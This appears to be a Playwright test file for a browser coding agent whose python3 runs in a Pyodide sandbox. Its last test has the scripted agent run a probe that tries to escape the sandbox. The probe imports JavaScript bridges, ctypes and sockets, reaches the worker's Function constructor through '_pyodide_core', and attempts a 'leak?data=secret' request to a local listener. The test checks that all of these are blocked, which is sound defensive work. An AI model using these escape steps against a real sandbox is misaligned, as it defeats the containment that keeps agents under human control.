/**
 * python3 in the tab, in real Chromium, on a page served WITHOUT COOP/COEP (the embed case): the
 * built-in sandbox's `python3` through the terminal and through the agent's Bash tool (the real SDK
 * against the mock API). Pyodide comes from the page's own origin on the first python3 and never
 * before; nothing is fetched beyond loopback. User Python cannot reach the page's storage or the network.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import type { MockApi } from './mock-api/server.ts';
import {
  allowEverything,
  connect,
  resultText,
  SCREENSHOT_DIR,
  sendPrompt,
  terminalText,
  toolCard,
  toolResultFor,
  waitIdle,
  withMockApi,
} from './support/app.ts';
import { type StaticServer, serveStatic } from './support/static-server.ts';

// The config's trace keeps no DOM snapshots or screencast, which starved the compile of Pyodide's 9 MB
// wasm (measured: 11 s without them, past the pool's 60 s load limit with them). No override here: an
// option of its own would also put this file on a worker of its own, run after every other file.

const ROOT = '/home/user/project';
/** Pyodide loads in seconds, and the CI machine is shared: generous waits for the first python3. */
const COLD_MS = 90_000;
let api: MockApi;
let site: StaticServer;

withMockApi((a) => {
  api = a;
});

test.beforeAll(async () => {
  site = await serveStatic(process.env.E2E_DIST ?? 'dist');
});

test.afterAll(async () => {
  await site?.close();
});

/** Every URL the page and its workers request. */
function recordRequests(page: Page): string[] {
  const urls: string[] = [];
  page.context().on('request', (r) => urls.push(r.url()));
  return urls;
}

/** Opens the page from the plain static server (not cross-origin isolated) with a fresh project. */
async function openPlain(page: Page): Promise<void> {
  await page.goto(`${site.url}/`);
  await expect(page.getByTestId('sandbox-badge')).toHaveAttribute('data-kind', 'just-bash');
  await expect(page.getByTestId('file-item').first()).toBeVisible();
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(false);
}

/**
 * Starts python3 from the terminal and waits until it answers: the tests after the first one are
 * about what runs, not about the cold start (which the terminal test covers). On this shared 2-core
 * machine two Chromiums compiling Pyodide side by side can pass the runtime pool's 60 s load limit;
 * the command then fails with "took too long to load" and is tried again (at most three times).
 */
async function warmPython(page: Page): Promise<void> {
  await page.getByTestId('tab-terminal').click();
  await page.getByTestId('terminal').locator('.xterm').click();
  for (let attempt = 0; attempt < 3; attempt++) {
    // A token of its own each time: the terminal still shows the earlier ones.
    const token = `warm-${Date.now()}`;
    const failures = (await terminalText(page)).split('took too long to load').length;
    await page.keyboard.type(`python3 -c "print('${token}')"`);
    await page.keyboard.press('Enter');
    const answered = new RegExp(`^${token}$`, 'm');
    await expect
      .poll(
        async () => {
          const text = await terminalText(page);
          return answered.test(text) || text.split('took too long to load').length > failures;
        },
        { timeout: COLD_MS },
      )
      .toBe(true);
    if (answered.test(await terminalText(page))) return;
  }
  throw new Error(`python3 did not start:\n${await terminalText(page)}`);
}

const isPyodide = (url: string) => /pyodide|python_stdlib/.test(url);
const isLoopback = (url: string) =>
  /^(https?|wss?):\/\/(127\.0\.0\.1|localhost)(:\d+)?\//.test(url) || /^(data|blob):/.test(url);

test('python3 in the terminal: loaded from our origin on first use, output shown as it is printed', async ({
  page,
}) => {
  test.setTimeout(180_000);
  const urls = recordRequests(page);
  await openPlain(page);
  await page.getByTestId('tab-terminal').click();
  await page.getByTestId('terminal').locator('.xterm').click();
  await page.keyboard.type('python3 --version');
  await page.keyboard.press('Enter');
  await expect.poll(() => terminalText(page)).toContain('Python 3.14');
  // The version is answered without the interpreter: nothing of Pyodide was fetched yet.
  expect(urls.filter(isPyodide)).toEqual([]);

  await page.keyboard.type(
    `python3 -c "import time; [print('tick', i) or time.sleep(0.5) for i in range(1, 7)]"`,
  );
  await page.keyboard.press('Enter');
  await expect.poll(() => terminalText(page), { timeout: COLD_MS }).toContain('tick 2');
  expect(await terminalText(page)).not.toContain('tick 6');
  await expect.poll(() => terminalText(page), { timeout: 15_000 }).toContain('tick 6');

  const pyodide = urls.filter(isPyodide);
  expect(pyodide.length).toBeGreaterThanOrEqual(4);
  for (const url of pyodide) expect(url.startsWith(`${site.url}/assets/pyodide-`), url).toBe(true);
  expect(urls.filter((u) => !isLoopback(u))).toEqual([]);
  await page.screenshot({ path: `${SCREENSHOT_DIR}/python-terminal.png` });
});

test('the Bash tool runs python3 on a CSV, prints a traceback, and stops a runaway at its timeout', async ({
  page,
}) => {
  test.setTimeout(240_000);
  const urls = recordRequests(page);
  const write = (id: string, path: string, content: string) => ({
    type: 'tool_use' as const,
    id,
    name: 'Write',
    input: { file_path: `${ROOT}/${path}`, content },
  });
  const bash = (id: string, command: string, timeout?: number) => ({
    content: [
      { type: 'tool_use' as const, id, name: 'Bash', input: { command, ...(timeout ? { timeout } : {}) } },
    ],
  });
  api.script([
    {
      content: [
        write(
          'w_csv',
          'data/sales.csv',
          'region,product,amount\nnorth,tea,12.50\nsouth,tea,7.25\nnorth,coffee,20\nsouth,coffee,3.75\nnorth,tea,1\n',
        ),
        write(
          'w_py',
          'summarize.py',
          [
            'import csv, os, sys',
            'from collections import defaultdict',
            'totals = defaultdict(float)',
            'with open(sys.argv[1], newline="") as f:',
            '    for row in csv.DictReader(f):',
            '        totals[row["region"]] += float(row["amount"])',
            'os.makedirs(os.path.dirname(sys.argv[2]), exist_ok=True)',
            'with open(sys.argv[2], "w", newline="") as f:',
            '    w = csv.writer(f, lineterminator="\\n")',
            '    w.writerow(["region", "total"])',
            '    for region in sorted(totals):',
            '        w.writerow([region, f"{totals[region]:.2f}"])',
            'print(f"wrote {len(totals)} regions to {sys.argv[2]}")',
            '',
          ].join('\n'),
        ),
        write('w_bad', 'bad.py', 'def parse(text):\n    return int(text)\n\nparse("twelve")\n'),
      ],
    },
    bash('b_csv', 'python3 summarize.py data/sales.csv out/summary.csv && cat out/summary.csv'),
    bash('b_bad', 'python3 bad.py'),
    bash('b_loop', `python3 -c "print('before the loop', flush=True)\nwhile True: pass"`, 2000),
    { content: [{ type: 'text', text: 'All ran.' }] },
  ]);
  await openPlain(page);
  await warmPython(page);
  await connect(page, api);
  await allowEverything(page);
  await sendPrompt(page, 'Summarize the sales.');
  await expect(page.getByTestId('assistant-text').last()).toHaveText('All ran.', { timeout: 200_000 });
  await waitIdle(page);
  const last = api.requests.at(-1);
  if (!last) throw new Error('no request');
  const out = (id: string) => {
    const block = toolResultFor(last, id);
    expect(block, id).toBeDefined();
    return { text: resultText(block ?? {}), isError: block?.is_error === true };
  };
  expect(out('b_csv')).toEqual({
    text: 'wrote 2 regions to out/summary.csv\nregion,total\nnorth,33.50\nsouth,11.00',
    isError: false,
  });
  const bad = out('b_bad');
  expect(bad.text).toContain('Traceback (most recent call last):');
  expect(bad.text).toContain(`File "${ROOT}/bad.py", line 4, in <module>`);
  expect(bad.text).toContain(`File "${ROOT}/bad.py", line 2, in parse`);
  expect(bad.text).toContain("ValueError: invalid literal for int() with base 10: 'twelve'");
  expect(bad.text).toContain('Exit code 1');
  const loop = out('b_loop');
  expect(loop.text).toContain('before the loop');
  expect(loop.text).toMatch(/timed out/i);
  expect(loop.text).toContain('Exit code 124');
  await expect(toolCard(page, 'b_loop')).toHaveAttribute('data-status', 'error');
  // The runaway's worker was terminated; the next python3 gets a new one, with the files the last one wrote.
  await warmPython(page);
  await page.keyboard.type(`python3 -c "print(len(open('out/summary.csv').readlines()))"`);
  await page.keyboard.press('Enter');
  await expect.poll(() => terminalText(page), { timeout: 30_000 }).toMatch(/^3$/m);
  expect(urls.filter((u) => !isLoopback(u))).toEqual([]);
  await page.screenshot({ path: `${SCREENSHOT_DIR}/python-bash-tool.png` });
});

test("Python the agent runs cannot reach the page's storage, network or globals", async ({ page }) => {
  test.setTimeout(180_000);
  let hits = 0;
  const listener: Server = createServer((_req, res) => {
    hits++;
    res.end('reached');
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  const port = (listener.address() as AddressInfo).port;
  try {
    await openPlain(page);
    await warmPython(page);
    const before = await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort());
    const probe = [
      'import json',
      'out = {}',
      'def attempt(name, code):',
      '    try:',
      '        exec(code, {})',
      '        out[name] = "reached"',
      '    except BaseException as e:',
      '        out[name] = f"{type(e).__name__}: {e}"',
      'attempt("js", "import js")',
      'attempt("pyodide_js", "import pyodide_js")',
      'attempt("run_js", "from pyodide.code import run_js")',
      'attempt("ffi", "import pyodide.ffi")',
      'attempt("http", "from pyodide.http import pyfetch")',
      'attempt("ctypes", "import ctypes")',
      `attempt("urllib", "import urllib.request; urllib.request.urlopen('http://127.0.0.1:${port}/')")`,
      `attempt("socket", "import socket; socket.create_connection(('127.0.0.1', ${port}))")`,
      `attempt("raw_socket", "import _socket; s = _socket.socket(); s.connect(('127.0.0.1', ${port}))")`,
      // Past every Python-side block: the worker's own globals, reached through Pyodide's core module.
      'import _imp, importlib.machinery as m',
      'core = _imp.create_builtin(m.ModuleSpec("_pyodide_core", None))',
      // A JavaScript object (a proxy of a Python function); its class's constructor is Function.
      'Function = core.to_js(lambda: 0).constructor.constructor',
      'assert Function.name == "Function", Function.name',
      'names = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "indexedDB", "caches", "localStorage", "document", "Worker", "BroadcastChannel"]',
      'out["escape"] = {n: Function(f"return typeof globalThis.{n}")() for n in names}',
      // What lockdown cannot remove: a dynamic import of another origin (the worker's policy refuses it).
      `Function("import('http://127.0.0.1:${port}/leak?data=secret').then(() => 0, () => 0)")()`,
      'print(json.dumps(out))',
      '',
    ].join('\n');
    api.script([
      {
        content: [
          {
            type: 'tool_use',
            id: 'w',
            name: 'Write',
            input: { file_path: `${ROOT}/probe.py`, content: probe },
          },
        ],
      },
      { content: [{ type: 'tool_use', id: 'probe', name: 'Bash', input: { command: 'python3 probe.py' } }] },
      { content: [{ type: 'text', text: 'Probed.' }] },
    ]);
    await connect(page, api);
    await allowEverything(page);
    await sendPrompt(page, 'Probe the sandbox.');
    await expect(page.getByTestId('assistant-text').last()).toHaveText('Probed.', { timeout: 150_000 });
    const last = api.requests.at(-1);
    const text = resultText(toolResultFor(last ?? (undefined as never), 'probe') ?? {});
    if (!text.startsWith('{')) throw new Error(`the probe failed:\n${text}`);
    const seen = JSON.parse(text) as Record<string, string> & { escape: Record<string, string> };
    expect(seen.js).toContain("the 'js' module is not available");
    expect(seen.pyodide_js).toContain("the 'pyodide_js' module is not available");
    for (const name of ['run_js', 'ffi', 'http'])
      expect(seen[name], name).toContain("the 'pyodide' module is not available");
    expect(seen.ctypes).toContain("does not provide 'ctypes'");
    expect(seen.urllib).toMatch(/^URLError: .*no network/);
    expect(seen.socket).toMatch(/^OSError: .*no network/);
    expect(seen.raw_socket).toMatch(/^OSError: \[Errno \d+\]/);
    for (const [name, type] of Object.entries(seen.escape)) expect(type, name).toBe('undefined');
    expect(Object.keys(seen.escape)).toHaveLength(11);
    // Give the import its time to fail (it is refused before any request).
    await page.waitForTimeout(1000);
    expect(hits).toBe(0);
    const after = await page.evaluate(async () => (await indexedDB.databases()).map((d) => d.name).sort());
    expect(after).toEqual(before);
  } finally {
    await new Promise<void>((r) => listener.close(() => r()));
  }
});
